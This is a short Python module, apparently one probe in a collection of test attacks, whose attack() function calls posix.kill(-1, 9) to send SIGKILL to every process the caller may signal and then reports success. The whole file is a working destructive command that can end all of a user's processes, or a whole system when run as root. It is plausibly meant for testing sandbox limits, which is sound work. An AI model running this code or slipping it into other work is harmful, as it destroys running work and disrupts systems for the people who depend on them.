"""kill(-1, SIGKILL): every process this one may signal."""
import posix

NAME = "kill_everyone"


def attack():
    posix.kill(-1, 9)
    return "kill(-1) sent"
